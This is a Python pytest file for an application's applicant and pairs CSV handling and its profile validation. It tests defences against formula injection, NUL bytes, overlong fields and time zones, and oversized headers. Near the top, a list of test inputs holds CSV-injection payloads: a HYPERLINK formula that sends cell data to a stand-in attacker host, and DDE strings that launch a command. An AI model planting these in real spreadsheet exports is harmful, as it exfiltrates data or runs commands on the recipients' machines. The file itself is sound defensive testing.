"""Hostile and oversized input in the CSV files and profile fields (issue 10)."""

from __future__ import annotations

import csv
import io
import time

import pytest

from core.errors import InvalidValue
from core.messages import vocab
from core.model import Profile
from core.rounds.applicants_csv import (
    ApplicantRow,
    CsvInvalid,
    PairsRow,
    guard,
    read_applicants,
    read_pairs,
    unguard,
    write_applicants,
    write_pairs,
)
from core.rounds.profiles import MAX_NAME, ProfileInvalid, build_profile

HEADER = "id,name,country,timezone,languages,sector,career_stage"
GOOD = "Europe/Helsinki,fi;en,public,mid"


def problems(text: str) -> dict[int, str]:
    with pytest.raises(CsvInvalid) as caught:
        read_applicants(text)
    return {p.line: p.reason for p in caught.value.problems}


def profile(name: str) -> Profile:
    return build_profile(
        name=name,
        country="fi",
        timezone="Europe/Helsinki",
        languages=["fi"],
        sector="public",
        career_stage="mid",
    )


# -- item 5: CSV injection -------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_are_neutralised_and_read_back(value: str) -> None:
    """A cell a spreadsheet would run starts with an apostrophe; unguard gives the value back."""
    cell = guard(value)
    assert cell == "'" + value
    assert unguard(cell) == value


@pytest.mark.parametrize("value", ["Ana", "'Ofa", "''=x", "'", "-3", "+1.5", "", "O'Brien"])
def test_guard_then_unguard_is_the_identity(value: str) -> None:
    """Apostrophes of members' own and plain numbers survive a write and a read unchanged."""
    assert unguard(guard(value)) == value
    assert guard(value)[:1] not in {"=", "+", "@", "\t", "\r"} or guard(value) == value


def test_export_of_a_hyperlink_name_is_safe_and_reads_back() -> None:
    """applicants.csv neutralises '=HYPERLINK(...)' and a '-' name; reading gives them back."""
    rows = [
        ApplicantRow("=1+1", profile('=HYPERLINK("https://evil.example","x")'), ("@b",), 2),
        ApplicantRow("@b", profile("-Ana- de la Cruz"), ("=1+1",), 3),
        ApplicantRow("c", profile("'Ofa Tonga"), (), 4),
        ApplicantRow("d", profile("Ana;=1+1; -x"), (), 5),
    ]
    buf = io.StringIO()
    write_applicants(rows, buf)
    assert not [c for c in cells_as_spreadsheets_read(buf.getvalue()) if starts_a_formula(c)]
    back = read_applicants(buf.getvalue())
    assert [(r.id, r.profile, r.previous_partners) for r in back] == [
        (r.id, r.profile, r.previous_partners) for r in rows
    ]


def cells_as_spreadsheets_read(text: str) -> list[str]:
    """Return every cell as a spreadsheet splits the file, with ',' or with ';' (many locales)."""
    out = []
    for delimiter in ",;":
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            out.extend(row)
    return out


def starts_a_formula(cell: str) -> bool:
    core = cell.lstrip(' "')
    return core[:1] in {"=", "+", "-", "@", "\t", "\r"} and core not in {"-1", "-2"}


def test_pairs_file_is_safe_with_either_separator_and_reads_back() -> None:
    """pairs.csv guards formula cells and list items, and reads back to the same rows."""
    rows = [
        PairsRow(1, ("=a", "b"), 12.5, ("wish met for =HYPERLINK(1)", "-2 hours")),
        PairsRow(2, ("c", "-d"), -1.0, ()),
        PairsRow(None, ("@e",), None, ("no partner shares a language",)),
    ]
    buf = io.StringIO()
    write_pairs(rows, buf)
    text = buf.getvalue()
    assert not [c for c in cells_as_spreadsheets_read(text) if starts_a_formula(c)], text
    assert read_pairs(text) == rows
    assert text.splitlines()[2] == "2,c;'-d,-1,"  # numbers stay numbers


def test_an_id_with_the_list_separator_is_refused_with_line_and_field() -> None:
    """'a;b' as an id or a previous partner would read back as two ids: refused."""
    found = problems(
        "\n".join(
            [
                HEADER + ",previous_partners",
                f"a;b,Ana,FI,{GOOD},",
                f"c,Ben,SE,{GOOD},",
            ]
        )
        + "\n"
    )
    assert list(found) == [2]
    assert found[2].startswith("id: ") and "';'" in found[2]


# -- item 6 (core): the forms' limits everywhere -----------------------------------------


def test_profile_limits_are_the_forms_limits() -> None:
    """A 100,000-character name, too many interests, a NUL are refused field by field."""
    with pytest.raises(ProfileInvalid) as caught:
        build_profile(
            name="x" * 100_000,
            country="fi",
            timezone="Europe/Helsinki",
            languages=["fi"],
            sector="public",
            career_stage="mid",
            interests=[f"topic {i}" for i in range(500)],
            introduction="hello\x00",
            institution="y" * 5000,
        )
    fields = caught.value.fields
    assert set(fields) == {"name", "interests", "introduction", "institution"}
    assert str(MAX_NAME) in fields["name"] and "U+0000" in fields["introduction"]
    assert all(len(why) < 200 for why in fields.values())
    assert profile("x" * MAX_NAME).name == "x" * MAX_NAME


def test_errors_quote_a_short_excerpt_of_a_long_value() -> None:
    """An unknown 6,000-character value is quoted in at most a few dozen characters."""
    for check in (vocab.country, vocab.language, vocab.sector, vocab.tag, vocab.timezone):
        with pytest.raises(InvalidValue) as caught:
            check("é" * 6000)
        assert len(str(caught.value)) < 250, check


# -- item 12: time zones that are folders or too long --------------------------------------


@pytest.mark.parametrize(
    "zone", ["Europe", "America/Argentina", "Etc", "x" * 300, "Europe/" + "y" * 300, "."]
)
def test_a_folder_or_overlong_time_zone_is_an_unknown_time_zone(zone: str) -> None:
    """tzdata folders and names too long for a file name are refused, not crashed on."""
    with pytest.raises(InvalidValue, match="unknown time zone"):
        vocab.timezone(zone)
    with pytest.raises(ProfileInvalid) as caught:
        build_profile(
            name="Ana",
            country="fi",
            timezone=zone,
            languages=["fi"],
            sector="public",
            career_stage="mid",
        )
    assert "timezone" in caught.value.fields
    assert vocab.timezone("America/Argentina/Buenos_Aires") == "America/Argentina/Buenos_Aires"


# -- item 13: what PostgreSQL would refuse, refused first with line and field -------------


def test_nul_bytes_and_long_ids_are_named_by_line_and_field() -> None:
    """A NUL in any field, an id over 64 characters: line and field, before any database."""
    found = problems(
        "\n".join(
            [
                HEADER + ",interests,introduction,previous_partners",
                f"a1,Ana\x00,FI,{GOOD},,,",
                f"{'i' * 65},Ben,SE,{GOOD},,,",
                f"a3,Cy,NO,{GOOD},,hi\x00there,",
                f"a4,Di,DK,{GOOD},,,{'p' * 65}",
                f"a5,Ed,EE,{GOOD},book\x00s,,",
            ]
        )
        + "\n"
    )
    assert set(found) == {2, 3, 4, 5, 6}
    assert found[2].startswith("name: ") and "U+0000" in found[2]
    assert found[3].startswith("id: ") and "64" in found[3]
    assert found[4].startswith("introduction: ") and "U+0000" in found[4]
    assert found[5].startswith("previous_partners: ") and "64" in found[5]
    assert found[6].startswith("interests: ")


# -- item 14: huge headers and huge fields ----------------------------------------------


def test_a_header_of_100000_columns_is_read_in_linear_time() -> None:
    """100,000 extra columns (it took 260 s) are read in well under a few seconds."""
    extra = ",".join(f"c{i}" for i in range(100_000))
    text = f"{HEADER},{extra}\na1,Ana,FI,{GOOD}\n"
    started = time.perf_counter()
    (row,) = read_applicants(text)
    assert row.id == "a1"
    dup = f"{HEADER},{extra},{extra}\n"
    found = problems(dup)
    assert time.perf_counter() - started < 5
    assert "repeats" in found[1] and len(found[1]) < 300


def test_a_field_over_the_csv_limit_is_named() -> None:
    """A field over the csv module's limit names its line and column, not the quotes."""
    limit = csv.field_size_limit()
    text = f'{HEADER},introduction\na1,Ana,FI,{GOOD},\na2,Ben,SE,{GOOD},"{"z" * (limit + 5)}"\n'
    found = problems(text)
    assert list(found) == [3]
    assert "introduction" in found[3] and f"{limit:,}" in found[3]
    assert "quote" not in found[3]
    unquoted = problems(f"{HEADER}\na1,{'n' * (limit + 5)},FI,{GOOD}\n")
    assert "the name field" in unquoted[2]
